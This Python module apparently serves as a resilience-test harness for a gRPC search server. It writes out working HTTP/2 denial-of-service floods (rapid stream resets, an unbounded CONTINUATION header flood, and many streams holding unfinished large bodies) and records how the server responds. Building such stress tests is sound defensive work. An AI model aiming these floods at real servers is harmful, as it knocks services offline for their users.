"""What a peer can send over a raw HTTP/2 connection that no gRPC client would: resets without end, metadata without end, requests
that never end. Each flood runs in a process of its own and says what became of it."""

import dataclasses
import multiprocessing
import selectors
import socket
import ssl
import struct
import time
from typing import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
FRAME_BYTES = 16_384
PEER = "127.0.0.9"  # another peer than the clients that are served meanwhile
SEARCH = b"/simile.v1.SearchService/Search"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that enters no table. Both shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"\x83\x86" + literal(b":path", SEARCH) + literal(b":authority", b"films") + literal(b"content-type", b"application/grpc") \
    + literal(b"te", b"trailers")


@dataclasses.dataclass
class Flood:
    """What became of a flood.

    cut    connections that the server closed
    sent   bytes that it took
    ended  calls that it ended, refused ones
    """
    cut: int = 0
    sent: int = 0
    ended: int = 0


class Server:
    """What the server says over a connection: what may be sent to it, and which calls it has ended."""

    def __init__(self):
        self.ended: set[int] = set()
        self._answers = b""
        self._window = self._initial = 65_535
        self._windows: dict[int, int] = {}
        self._buffer = b""

    def may_send(self, stream: int) -> int:
        return 0 if stream in self.ended else min(self._window, self._windows.get(stream, 0) + self._initial)

    def sent(self, stream: int, count: int) -> None:
        self._window -= count
        self._windows[stream] = self._windows.get(stream, 0) - count

    def answers(self) -> bytes:
        """What it expects to hear for what it has said since the last time."""
        answers, self._answers = self._answers, b""
        return answers

    def read(self, received: bytes) -> None:
        self._buffer += received
        at = 0
        while len(self._buffer) - at >= 9:
            end = at + 9 + int.from_bytes(self._buffer[at:at + 3], "big")
            if end > len(self._buffer):
                break
            kind, flags, stream = struct.unpack(">BBI", self._buffer[at + 3:at + 9])
            self._frame(kind, flags, stream, self._buffer[at + 9:end])
            at = end
        self._buffer = self._buffer[at:]

    def _frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == INITIAL_WINDOW_SIZE:
                    self._initial = value
            self._answers += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK:
            self._answers += frame(PING, ACK, 0, payload)
        elif kind == WINDOW_UPDATE:
            step, = struct.unpack(">I", payload)
            if stream == 0:
                self._window += step
            else:
                self._windows[stream] = self._windows.get(stream, 0) + step
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.ended.add(stream)


Pieces = Callable[[Server], Iterator[bytes]]


class Connection:
    """Sends what its pieces are, as fast as the server takes them, and reads whatever comes. An empty piece waits for something."""

    def __init__(self, address: str, tls: ssl.SSLContext | None, pieces: Pieces):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), source_address=(PEER, 0))
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname=host)
        self.socket.setblocking(False)
        self.server = Server()
        self.ended = self.cut = self.waits = False
        self.sent = 0
        self._pieces = pieces(self.server)
        self._left = memoryview(b"")

    def send(self) -> None:
        try:
            while not self.ended:
                if not self._left:
                    self._left = memoryview(next(self._pieces))
                self.waits = not self._left
                if self.waits:
                    return
                count = self.socket.send(self._left)
                self.sent += count
                self._left = self._left[count:]
        except StopIteration:
            self.ended = True
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.cut = self.ended = True

    def receive(self) -> None:
        try:
            while received := self.socket.recv(1 << 16):
                self.server.read(received)
                self.waits = False
            self.cut = self.ended = True
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.cut = self.ended = True

    def events(self) -> int:
        return selectors.EVENT_READ | (0 if self.waits or self.ended else selectors.EVENT_WRITE)


def run(address: str, tls: bool, floods: list[Pieces], seconds: float) -> Flood:
    """All of them at once, each over a connection of its own, until all have ended or the time has."""
    context = None
    if tls:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
    connections = [Connection(address, context, pieces) for pieces in floods]
    with selectors.DefaultSelector() as selector:
        for connection in connections:
            selector.register(connection.socket, connection.events(), connection)
        end = time.monotonic() + seconds
        while selector.get_map() and time.monotonic() < end:
            for key, events in selector.select(timeout=0.1):
                connection = key.data
                if events & selectors.EVENT_READ:
                    connection.receive()
                if events & selectors.EVENT_WRITE:
                    connection.send()
                if connection.cut:
                    selector.unregister(connection.socket)
                else:
                    selector.modify(connection.socket, connection.events(), connection)
            if all(connection.ended for connection in connections):
                end = min(end, time.monotonic() + 1)  # for what the server still says
    return Flood(sum(connection.cut for connection in connections), sum(connection.sent for connection in connections),
                 sum(len(connection.server.ended) for connection in connections))


def opening() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65_535))


def rapid_resets(count: int) -> Pieces:
    def pieces(_: Server) -> Iterator[bytes]:
        yield opening()
        reset = struct.pack(">I", 8)
        for first in range(0, count, 100):
            yield b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, CALL) + frame(RST_STREAM, 0, 2 * number + 1, reset)
                           for number in range(first, min(first + 100, count)))

    return pieces


def continuation(total: int) -> Pieces:
    def pieces(_: Server) -> Iterator[bytes]:
        yield opening() + frame(HEADERS, 0, 1, CALL)
        piece = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * (FRAME_BYTES // 104))
        for _ in range(total // FRAME_BYTES):
            yield piece

    return pieces


def unfinished_bodies(streams: int, declared: int) -> Pieces:
    """The streams take turns, a frame each, within what the server allows, until only a frame is missing of each."""
    def pieces(server: Server) -> Iterator[bytes]:
        numbers = [2 * number + 1 for number in range(streams)]
        yield opening() + b"".join(frame(HEADERS, END_HEADERS, number, CALL) for number in numbers)
        start = b"\0" + struct.pack(">I", declared) + bytes(59)
        filler = bytes(FRAME_BYTES)
        left = {}
        for number in numbers:
            while not server.may_send(number) and number not in server.ended:
                yield server.answers()
            server.sent(number, len(start))
            left[number] = declared - len(start)
            yield frame(DATA, 0, number, start)
        while left:
            sent = False
            for number in list(left):
                count = min(FRAME_BYTES, server.may_send(number))
                if number in server.ended or left[number] <= FRAME_BYTES:
                    del left[number]
                elif count > 0:
                    server.sent(number, count)
                    left[number] -= count
                    sent = True
                    yield frame(DATA, 0, number, filler[:count])
            answers = server.answers()
            if answers or not sent:
                yield answers

    return pieces


def bodies(connections: int) -> list[Pieces]:
    return [unfinished_bodies(100, 19 << 20)] * connections


FLOODS: dict[str, Callable[[], list[Pieces]]] = {
    "rapid resets, 400,000": lambda: [rapid_resets(400_000)],
    "CONTINUATION, 1 GiB": lambda: [continuation(1 << 30)],
    "unfinished bodies, 4 x 100 x 19 MiB": lambda: bodies(4),
    "unfinished bodies, 64 x 100 x 19 MiB": lambda: bodies(64),
}


def _work(address: str, tls: bool, name: str, seconds: float, results) -> None:
    results.put(run(address, tls, FLOODS[name](), seconds))


class Running:
    """A flood in a process of its own, during the block."""

    def __init__(self, address: str, name: str, seconds: float, tls: bool = False):
        context = multiprocessing.get_context("spawn")
        self._results = context.Queue()
        self._process = context.Process(target=_work, args=(address, tls, name, seconds, self._results), daemon=True)

    def __enter__(self):
        self._process.start()
        return self

    def __exit__(self, *error):
        self._process.kill()
        self._process.join()

    def result(self) -> Flood:
        return self._results.get()
